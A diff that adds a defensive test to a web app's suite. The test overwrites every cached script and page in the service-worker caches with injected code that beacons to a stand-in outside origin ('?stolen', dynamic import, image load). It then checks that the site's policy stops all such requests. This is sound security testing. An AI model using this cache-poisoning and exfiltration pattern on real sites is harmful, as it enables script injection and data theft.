@@ -318,6 +318,55 @@ it('sends nothing from any file of the build that is started as a worker, on a h
   expect(stranger.seen).toEqual([]);
 });
 
+it('gives out no page and no worker without its policy, whatever a script wrote into the caches', async () => {
+  // A host without headers: the service worker alone adds them.
+  const bare = await serveSite({ root: DIST, headers: {} });
+  const stranger = await startOtherProgram();
+  const latent = await startLatent({ isKeptForLater: true });
+  onTestFinished(() => bare.close());
+  latent.watch.allow(/./su);
+  for (const origin of [bare.url, stranger.origin]) latent.watch.allowOrigin(new URL(origin).origin);
+  const page = await latent.context.newPage();
+  await page.goto(bare.url);
+  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
+  const written = await page.evaluate(async (to) => {
+    const script = `fetch('${to}/?stolen', { mode: 'no-cors' }).catch(() => {}); import('${to}/import').catch(() => {});`;
+    const put = async (cache: Cache, key: RequestInfo, type: string, body: string) =>
+      cache.put(key, new Response(body, { headers: { 'content-type': type } }));
+    let count = 0;
+    for (const name of await caches.keys()) {
+      const cache = await caches.open(name);
+      for (const key of await cache.keys()) {
+        if (/\.js(?:\?|$)/u.test(key.url)) await put(cache, key, 'text/javascript', script);
+        else if (/\.html(?:\?|$)/u.test(key.url))
+          await put(cache, key, 'text/html', `<!doctype html><script>${script}</script><img src="${to}/image">`);
+        else continue;
+        count += 1;
+      }
+      await put(cache, './models/own.js', 'text/javascript', script);
+    }
+    return count;
+  }, stranger.origin);
+  expect(written).toBeGreaterThan(100);
+  const workers = (await readdir(join(DIST, 'assets'))).filter((name) => name.includes('.worker-'));
+  const [network] = await readdir(join(DIST, 'network'));
+  await page.evaluate(
+    async (names) => {
+      const started = names.map((name) => new Worker(name, { type: 'module' }));
+      await new Promise((resolve) => setTimeout(resolve, 2_000));
+      for (const worker of started) worker.terminate();
+    },
+    [...workers.map((name) => `./assets/${name}`), `./network/${network}`, './models/own.js'],
+  );
+  expect(stranger.seen).toEqual([]);
+  for (const path of ['', '#/note/A.md', 'log-in.html#1']) {
+    await page.goto('about:blank');
+    await page.goto(bare.url + path);
+    await page.waitForTimeout(500);
+  }
+  expect(stranger.seen).toEqual([]);
+});
+
 it('does not start inside a frame, whether or not its host sends headers', async () => {
   const bare = await serveSite({ root: DIST, headers: {} });
   onTestFinished(() => bare.close());
